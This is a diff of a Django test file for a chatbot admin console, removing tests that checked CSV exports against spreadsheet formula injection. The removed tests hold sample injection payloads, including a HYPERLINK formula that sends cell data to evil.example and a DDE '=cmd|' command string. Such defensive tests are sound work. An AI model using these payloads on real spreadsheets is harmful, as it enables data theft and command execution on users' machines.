@@ -6,7 +6,6 @@ refusal says and that nothing was saved.
 
 from __future__ import annotations
 
-import csv
 import io
 import time
 import tracemalloc
@@ -19,16 +18,10 @@ from django.utils import translation
 from hypothesis import given, settings as hypothesis_settings, strategies as st
 
 from chatbot.models import AutoReply, Skill
-from chatbot.transfer import export_csv, read_csv
 from console.ids import object_pk
 from console.models import Job
-from console.roles import MARKETING_EDITOR
 from console.spreadsheets import (
-    FORMULA_STARTS,
     SpreadsheetRefused,
-    cell_neutralise,
-    cell_restore,
-    csv_text,
     xlsx_rows,
 )
 from tagging.bulk.models import BulkAudience
@@ -349,66 +342,6 @@ def test_an_import_of_more_rows_than_the_limit_is_refused(editor, bot, monkeypat
         HTTP_ACCEPT_LANGUAGE="en",
     )
     assert "more than 3 replies" in response.content.decode()
-
-
-# ---- what the console writes --------------------------------------------------------------------
-
-
-@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
-@hypothesis_settings(max_examples=300, deadline=None)
-def test_csv_cells_never_start_a_formula_and_read_back_to_the_same_text(cells):
-    text = csv_text(["a"] * len(cells), [cells])
-    assert text.startswith("\ufeff")
-    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
-    assert [cell_restore(cell) for cell in rows[1]] == cells
-    assert not any(cell.startswith(FORMULA_STARTS) for cell in rows[1])
-
-
-@given(st.text(max_size=30))
-@hypothesis_settings(max_examples=500, deadline=None)
-def test_neutralising_a_cell_is_undone_exactly(value):
-    assert cell_restore(cell_neutralise(value)) == value
-    assert not cell_neutralise(value).startswith(FORMULA_STARTS)
-
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\t=1",
-    "'=already quoted",
-]
-
-
-def test_the_chatbot_export_writes_no_formula_and_imports_back_unchanged(editor, bot):
-    skill = Skill.objects.create(bot=bot, name="=技能")
-    for number, text in enumerate(FORMULAS):
-        AutoReply.objects.create(
-            skill=skill, title=f"-问题{number}", questions=["=相似", "+另一个"], content=text
-        )
-    exported = export_csv(bot=bot)
-    for row in csv.reader(io.StringIO(exported[1:], newline="")):
-        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
-    records = read_csv(exported.encode("utf-8"))
-    by_title = {record["title"]: record for record in records}
-    for number, text in enumerate(FORMULAS):
-        record = by_title[f"-问题{number}"]
-        assert record["skillname"] == "=技能"
-        assert record["content"] == text
-        assert record["questions"] == ["=相似", "+另一个"]
-
-
-def test_a_refused_line_that_looks_like_a_formula_is_neutralised_in_the_download(make_user):
-    from tagging.bulk.audience import audience_from_text
-
-    editor = make_user("csv-editor", role=MARKETING_EDITOR)
-    audience = audience_from_text(text=f"{OPENID}\n=cmd|'/Ccalc'!A0\n@SUM(1)", user=editor)
-    response = logged_in(editor).get(f"/admin/tagging/bulkaudience/{audience.pk}/refused.csv")
-    body = b"".join(response.streaming_content).decode()
-    assert body.startswith("\ufeff")
-    values = [row[1] for row in csv.reader(io.StringIO(body[1:]))][1:]
-    assert values == ["'=cmd|'/Ccalc'!A0", "'@SUM(1)"]
 
 
 def test_every_admin_of_the_site_checks_ids_and_filters():
